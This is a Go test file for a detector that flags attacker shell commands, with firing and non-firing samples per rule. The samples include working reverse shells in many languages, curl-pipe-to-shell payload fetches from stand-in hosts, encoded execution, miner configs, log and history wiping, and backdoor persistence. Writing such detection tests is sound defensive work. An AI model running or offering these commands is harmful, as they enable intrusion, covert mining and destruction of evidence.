package indicator

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// cases: for each rule, lines that must fire it and lines that must not. The samples are
// written for these tests (after the kinds of commands attackers run), not copied.
var cases = []struct {
	rule string
	pos  []string
	neg  []string
}{
	{"reverse-shell.bash-dev-tcp", []string{
		"bash -i >& /dev/tcp/203.0.113.7/9001 0>&1",
		"0<&196;exec 196<>/dev/tcp/203.0.113.7/443; sh <&196 >&196 2>&196",
		"/bin/bash -c 'bash > /dev/tcp/198.51.100.2/8080 0<&1 2>&1'",
		"exec 5<>/dev/tcp/203.0.113.7/80; cat <&5 | while read line; do $line 2>&5 >&5; done",
	}, []string{"(echo > /dev/tcp/db.local/5432) >/dev/null 2>&1 && echo up", "echo tcp is fine"}},
	{"reverse-shell.dev-tcp", []string{"timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db.local/5432'"}, []string{"bash -i >& /dev/tcp/203.0.113.7/9001 0>&1", "ls /dev"}},
	{"reverse-shell.interactive-shell-redirect", []string{"sh -i >& /dev/udp/203.0.113.7/53 0>&1", "/bin/sh -i 2>&1 | nc 203.0.113.7 4444"}, []string{"bash -i", "python -i script.py >& log"}},
	{"reverse-shell.nc-exec", []string{"nc -e /bin/sh 203.0.113.7 4444", "ncat 203.0.113.7 4444 --exec /bin/bash", "nc.traditional -lvp 4444 -e /bin/bash", "ncat --sh-exec 'id' 203.0.113.7 80", "busybox nc 203.0.113.7 1234 -e sh"}, []string{"nc -zv db.local 5432", "nc -l 8080 > out.bin", "echo nc -e"}},
	{"reverse-shell.fifo-pipe", []string{"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f", "mknod /tmp/p p && /bin/bash 0</tmp/p | telnet 203.0.113.7 23 1>/tmp/p"}, []string{"mkfifo /run/app/fifo && chmod 600 /run/app/fifo"}},
	{"reverse-shell.socat", []string{"socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.7:4444", "socat tcp-listen:4444,reuseaddr,fork exec:/bin/sh"}, []string{"socat tcp-listen:8080,fork tcp:127.0.0.1:80", "socat - unix-connect:/run/app.sock"}},
	{"reverse-shell.python", []string{`python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])'`}, []string{`python3 -c 'import socket; print(socket.gethostname())'`}},
	{"reverse-shell.perl", []string{`perl -e 'use Socket;$i="203.0.113.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`}, []string{`perl -e 'print "socket ok\n"'`}},
	{"reverse-shell.ruby", []string{`ruby -rsocket -e 'f=TCPSocket.open("203.0.113.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`}, []string{`ruby -rsocket -e 'puts TCPSocket.gethostbyname("x")'`}},
	{"reverse-shell.php", []string{`php -r '$sock=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`}, []string{`php -r '$f=fsockopen("db",3306); fclose($f);'`}},
	{"reverse-shell.lua", []string{`lua -e "require('socket');local t=assert(socket.tcp());t:connect('203.0.113.7',4444);while true do local r=t:receive();local f=io.popen(r,'r');t:send(f:read('*a'));f:close();end"`}, []string{`lua -e "local socket=require('socket'); print(socket._VERSION)"`}},
	{"reverse-shell.node", []string{`node -e "var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4444,'203.0.113.7',function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});"`}, []string{`node -e "require('child_process').execSync('ls')"`}},
	{"reverse-shell.awk-inet", []string{`awk 'BEGIN {s = "/inet/tcp/0/203.0.113.7/4444"; while(1) {printf "> " |& s; s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c)}}' /dev/null`}, []string{`awk '{print $1}' /etc/passwd`}},
	{"reverse-shell.telnet-pipe", []string{"telnet 203.0.113.7 4444 | /bin/bash | telnet 203.0.113.7 4445"}, []string{"telnet mail.local 25"}},
	{"reverse-shell.openssl", []string{"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/s"}, []string{"openssl s_client -connect example.org:443 -servername example.org < /dev/null"}},
	{"reverse-shell.xterm", []string{"xterm -display 203.0.113.7:1"}, []string{"xterm -display :0", "xterm -fa Monospace"}},
	{"obfuscation.base64-shebang", []string{"echo IyEvYmluL2Jhc2gKaWQK | base64 -d > /tmp/x", "printf IyEvYmluL3NoCg== > /tmp/a"}, []string{"echo aGVsbG8K | base64 -d"}},
	{"download-exec.pipe-shell", []string{"curl -fsSL http://203.0.113.7/i.sh | sh", "ExecStart=/bin/sh -c 'curl -fsSL http://198.51.100.7/i.sh | sh'", "*/5 * * * * root bash -c \"wget -qO- http://x.example/s | bash\"", "wget -qO- https://evil.example/x | bash -s", "curl -s http://x.example/a.py | sudo python3 -", "wget -O - http://x.example/p | tee /tmp/l | sh"}, []string{"curl -s https://api.example/v1 | jq .", "wget -O /tmp/x.tar.gz https://example.org/x.tar.gz"}},
	{"download-exec.subshell", []string{`bash <(curl -s http://evil.example/x.sh)`, `sh -c "$(wget -qO- http://evil.example/i)"`, `eval "$(curl -fsSL http://evil.example/env)"`}, []string{`v="$(curl -s https://api.example/version)"`}},
	{"download-exec.fetch-run", []string{"curl -o /tmp/.x http://evil.example/x; chmod +x /tmp/.x; /tmp/.x", "wget http://203.0.113.7/kworker -O /dev/shm/kworker && chmod 755 /dev/shm/kworker && /dev/shm/kworker -c", "cd /tmp && wget http://evil.example/bot && chmod +x bot && ./bot", "curl -fsSLo /var/tmp/s http://evil.example/s.sh && sh /var/tmp/s"}, []string{"curl -o /tmp/page.html https://example.org/; grep title /tmp/page.html", "wget -O- http://x | cat"}},
	{"download-exec.raw-ip", []string{"wget http://203.0.113.7/x.bin", "curl -O 198.51.100.20:8080/payload"}, []string{"curl http://127.0.0.1:8080/health", "wget http://10.1.2.3/mirror/file", "curl https://deb.debian.org/debian/"}},
	{"download-exec.paste-site", []string{"curl -s https://pastebin.com/raw/AbC123 -o /tmp/a", "wget https://transfer.sh/abc/x.sh", `python3 -c "import urllib.request as u; print(u.urlopen('https://abcd.ngrok.io/a').read())"`}, []string{"# see https://pastebin.com/raw/x for notes", "echo transfer.sh"}},
	{"obfuscation.base64-shell", []string{"echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaAo= | base64 -d | bash", "base64 --decode /tmp/p.b64 | sh", "openssl base64 -d -in /tmp/p | sh"}, []string{"echo aGVsbG8= | base64 -d", "base64 /etc/hostname | sh -c cat"}},
	{"obfuscation.decode-pipe-shell", []string{`printf '\x69\x64' | sh`, "xxd -r -p /tmp/h | bash", "echo 'uf -v' | rev | bash", "zcat /tmp/p.gz | sh"}, []string{"zcat /var/log/syslog.1.gz | grep sshd", "echo abc | rev"}},
	{"obfuscation.exec-base64", []string{`python3 -c "import base64;exec(base64.b64decode('cHJpbnQoJ2hpJyk='))"`, `perl -MMIME::Base64 -e 'eval(decode_base64("cHJpbnQgMQ=="))'`, `eval "$(echo ZWNobyBoaQ== | base64 -d)"`, `php -r 'eval(base64_decode("ZWNobyAxOw=="));'`}, []string{`python3 -c "import base64; print(base64.b64decode('aGk='))"`}},
	{"obfuscation.encoded-blob", []string{"python3 -c \"" + strings.Repeat("QUFB", 100) + "\""}, []string{"KEY=" + strings.Repeat("QUFB", 100)}},
	{"miner.stratum-url", []string{"./xmrig -o stratum+tcp://203.0.113.7:3333 -u wallet", `"url": "stratum+ssl://gulf.example:443"`}, []string{"echo stratum"}},
	{"miner.pool-host", []string{"-o pool.supportxmr.com:443", `"url": "xmr-eu1.nanopool.org:14433"`, "gulf.moneroocean.stream:10128", "c3pool.com", "pool.hashvault.pro:80"}, []string{"pool.ntp.org iburst", "poolside.example.org"}},
	{"miner.binary-name", []string{"/tmp/.cache/xmrig --config=/tmp/c.json", "nohup ./kdevtmpfsi &", "cpuminer -a yescrypt", "xmr-stak --noTest"}, []string{"examinerd --start", "/usr/bin/minerva"}},
	{"miner.config", []string{`"donate-level": 1,`, `pool_address : "pool.example:5555",`, "--donate-level=0"}, []string{`"donate": "https://example.org/donate"`}},
	{"miner.algorithm", []string{`"algo": "rx/0",`, "--algo cryptonight"}, []string{`"algo": "sha256"`, "algorithm=aes"}},
	{"history-tamper.histfile-null", []string{"export HISTFILE=/dev/null", "HISTFILE= bash", "export HISTFILE=''"}, []string{"HISTFILE=~/.bash_history", "echo $HISTFILE"}},
	{"history-tamper.unset-histfile", []string{"unset HISTFILE", "unset HISTFILE HISTSAVE HISTMOVE"}, []string{"unset FOO", "echo unset HISTFILE_X"}},
	{"history-tamper.histsize-zero", []string{"HISTSIZE=0", "export HISTFILESIZE=0", "set savehist = 0"}, []string{"HISTSIZE=1000", "HISTFILESIZE=2000"}},
	{"history-tamper.history-clear", []string{"history -c", "history -cw"}, []string{"history | tail", "history -a"}},
	{"history-tamper.history-off", []string{"set +o history"}, []string{"set -o history", "set +o vi"}},
	{"history-tamper.histignore-all", []string{"export HISTIGNORE='*'"}, []string{"HISTIGNORE='ls:bg:fg'"}},
	{"history-tamper.history-file", []string{"ln -sf /dev/null ~/.bash_history", "rm -f /root/.bash_history", "cat /dev/null > ~/.bash_history", "> ~/.zsh_history", "truncate -s 0 /home/u/.bash_history", "echo > .bash_history", "shred -u ~/.mysql_history"}, []string{"cat ~/.bash_history | grep ssh", "cp ~/.bash_history /evidence/"}},
	{"log-tamper.truncate", []string{"> /var/log/auth.log", "echo > /var/log/wtmp", "cat /dev/null > /var/log/secure", "truncate -s 0 /var/log/syslog", ": > /var/log/lastlog", "cp /dev/null /var/log/messages", "dd if=/dev/zero of=/var/log/btmp bs=1 count=0"}, []string{"backup.sh > /var/log/backup.log 2>&1", "echo started >> /var/log/app.log", "logrotate /etc/logrotate.conf"}},
	{"log-tamper.delete", []string{"rm -rf /var/log", "rm -f /var/log/wtmp /var/log/btmp", "shred -zu /var/log/auth.log", "rm -rf /var/log/*", "find /var/log -type f -delete", "unlink /var/log/messages"}, []string{"rm -f /var/log/app/old.log.3.gz", "find /var/log -name '*.gz' -mtime +30 -delete"}},
	{"log-tamper.journal-vacuum", []string{"journalctl --vacuum-time=1s", "journalctl --rotate --vacuum-size=1K"}, []string{"journalctl -u ssh --since today"}},
	{"log-tamper.utmpdump", []string{"utmpdump /var/log/wtmp > /tmp/w; utmpdump -r < /tmp/w > /var/log/wtmp"}, []string{"last -f /var/log/wtmp"}},
	{"log-tamper.audit-off", []string{"auditctl -D", "auditctl -e 0"}, []string{"auditctl -l", "auditctl -e 1"}},
	{"log-tamper.logger-stopped", []string{"systemctl stop rsyslog", "service auditd stop", "systemctl disable --now systemd-journald.service", "pkill rsyslogd"}, []string{"systemctl restart rsyslog", "systemctl status auditd", "systemctl kill -s HUP rsyslog.service", "systemctl kill --signal=SIGUSR1 rsyslog"}},
	{"persistence-hint.chattr-immutable", []string{"chattr +i /root/.ssh/authorized_keys", "chattr +ia /etc/ld.so.preload", "chattr +i /etc/cron.d/sys"}, []string{"chattr -i /etc/passwd", "lsattr /etc/passwd"}},
	{"persistence-hint.chattr", []string{"chattr +i /opt/app/config.yml"}, []string{"chattr -i /opt/app/config.yml"}},
	{"persistence-hint.ld-preload", []string{"export LD_PRELOAD=/usr/local/lib/libsys.so", "LD_PRELOAD=/tmp/.l.so sshd"}, []string{`LD_PRELOAD="$FAKEROOT_LIB" "$@"`, "unset LD_PRELOAD"}},
	{"persistence-hint.ld-so-preload-write", []string{"echo /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload", "cp /tmp/p /etc/ld.so.preload", "echo /lib/x.so | tee -a /etc/ld.so.preload"}, []string{"cat /etc/ld.so.preload"}},
	{"persistence-hint.authorized-keys-write", []string{`echo "ssh-ed25519 AAAAC3Nza... x@y" >> /root/.ssh/authorized_keys`, "cat /tmp/k.pub | tee -a ~/.ssh/authorized_keys"}, []string{"cat ~/.ssh/authorized_keys", "ssh-keygen -lf ~/.ssh/authorized_keys"}},
	{"persistence-hint.crontab-write", []string{`(crontab -l; echo "* * * * * /tmp/.x") | crontab -`, `echo "@reboot root /dev/shm/k" >> /etc/crontab`, "crontab /tmp/cron.txt", `echo "*/5 * * * * root curl -s x|sh" > /etc/cron.d/sys`}, []string{"crontab -l", "crontab -e"}},
	{"persistence-hint.uid0-user", []string{"useradd -o -u 0 -g 0 -M -s /bin/bash toor", "usermod -ou 0 backup", `echo 'sys2:x:0:0::/root:/bin/bash' >> /etc/passwd`}, []string{"useradd -m -s /bin/bash alice", "grep ':0:0:' /etc/passwd"}},
	{"persistence-hint.suid-shell", []string{"chmod u+s /bin/bash", "cp /bin/bash /tmp/.sh; chmod 4755 /tmp/.sh", "chmod +s /var/tmp/x"}, []string{"chmod 755 /usr/local/bin/app", "chmod u+s /usr/local/bin/ping6"}},
	{"persistence-hint.hidden-tmp-exec", []string{"* * * * * root /tmp/.x/run >/dev/null 2>&1", "ExecStart=/dev/shm/.k/kworker", "@reboot sh /var/tmp/.cache/s.sh"}, []string{"ls /tmp/.X11-unix"}},
	{"persistence-hint.tmp-exec", []string{"*/10 * * * * /tmp/update.sh", "ExecStart=/var/tmp/agent --daemon", "nohup /dev/shm/x &", "bash /tmp/install.sh"}, []string{"mktemp /tmp/x.XXXXXX", `f="$(mktemp /tmp/t.XXXX)"`, "rm -f /tmp/lock", "cp a /tmp/b"}},
}

func TestRules(t *testing.T) {
	for _, c := range cases {
		for _, p := range c.pos {
			if !fires(p, c.rule) {
				t.Errorf("%s: did not fire on %q (got %v)", c.rule, p, ruleIDs(Scan([]byte(p))))
			}
		}
		for _, n := range c.neg {
			if fires(n, c.rule) {
				t.Errorf("%s: fired on benign %q", c.rule, n)
			}
		}
	}
}

// TestEveryRuleHasCases keeps the table in step with the rules.
func TestEveryRuleHasCases(t *testing.T) {
	have := map[string]bool{}
	for _, c := range cases {
		if len(c.pos) == 0 || len(c.neg) == 0 {
			t.Errorf("%s: needs positive and negative examples", c.rule)
		}
		have[c.rule] = true
	}
	for _, r := range append(append([]rule(nil), rules...), fetchRun) {
		if !have[r.id] {
			t.Errorf("rule %s has no test cases", r.id)
		}
		if r.cat == "" || r.sev == "" || len(r.attack) == 0 {
			t.Errorf("rule %s: missing category, severity or ATT&CK ids", r.id)
		}
	}
}

func fires(text, rule string) bool {
	for _, m := range Scan([]byte(text)) {
		if m.Rule == rule {
			return true
		}
	}
	return false
}

func ruleIDs(ms []Match) []string {
	var out []string
	for _, m := range ms {
		out = append(out, m.Rule)
	}
	return out
}

func TestMatchFields(t *testing.T) {
	text := "#!/bin/sh\n# a comment: bash -i >& /dev/tcp/1.2.3.4/1 0>&1\necho ok\n  export HISTFILE=/dev/null   \n" +
		"curl -o /tmp/x http://evil.example/x\nchmod +x /tmp/x\n/tmp/x\n" + strings.Repeat("A", 300) + " > /var/log/wtmp\n"
	ms := Scan([]byte(text))
	byRule := map[string]Match{}
	for _, m := range ms {
		byRule[m.Rule] = m
	}
	if _, ok := byRule["reverse-shell.bash-dev-tcp"]; ok {
		t.Errorf("a commented-out line fired")
	}
	h := byRule["history-tamper.histfile-null"]
	if h.Line != 4 || h.Evidence != "export HISTFILE=/dev/null" || h.Category != CatHistoryTamper || h.Severity != High || len(h.Attack) == 0 || h.Attack[0] != "T1070.003" {
		t.Errorf("histfile match = %+v", h)
	}
	f := byRule["download-exec.fetch-run"]
	if f.Line != 5 {
		t.Errorf("fetch-run reported on line %d, want the download's line 5", f.Line)
	}
	if w, ok := byRule["log-tamper.truncate"]; ok {
		t.Errorf("a command writing to wtmp is not an empty truncation: %+v", w)
	}
	for i := 1; i < len(ms); i++ {
		if ms[i].Line < ms[i-1].Line {
			t.Errorf("matches not ordered by line")
		}
	}
	long := strings.Repeat("x", 500) + " | base64 -d | sh"
	for _, m := range Scan([]byte("echo " + long)) {
		if len(m.Evidence) > maxEvidence {
			t.Errorf("evidence of %d bytes", len(m.Evidence))
		}
	}
}

func TestContinuationLines(t *testing.T) {
	ms := Scan([]byte("curl -s \\\n  http://evil.example/x \\\n  | bash\necho done\n"))
	if len(ms) != 1 || ms[0].Rule != "download-exec.pipe-shell" || ms[0].Line != 1 {
		t.Errorf("continued line: %+v", ms)
	}
}

func FuzzScan(f *testing.F) {
	for _, c := range cases {
		for _, p := range c.pos {
			f.Add([]byte(p))
		}
	}
	f.Add([]byte("a \\\n\\\n\\"))
	f.Add([]byte("|||;;&&>><<\x00\xff"))
	f.Fuzz(func(t *testing.T, b []byte) {
		ms := Scan(b)
		lines := strings.Count(string(b), "\n") + 1
		for _, m := range ms {
			if m.Line < 1 || m.Line > lines {
				t.Fatalf("line %d out of 1..%d", m.Line, lines)
			}
			if len(m.Evidence) > maxEvidence || !utf8.ValidString(m.Evidence) && len(m.Evidence) == 0 {
				t.Fatalf("bad evidence %q", m.Evidence)
			}
			if m.Rule == "" || m.Category == "" || m.Severity == "" || len(m.Attack) == 0 {
				t.Fatalf("incomplete match %+v", m)
			}
		}
	})
}
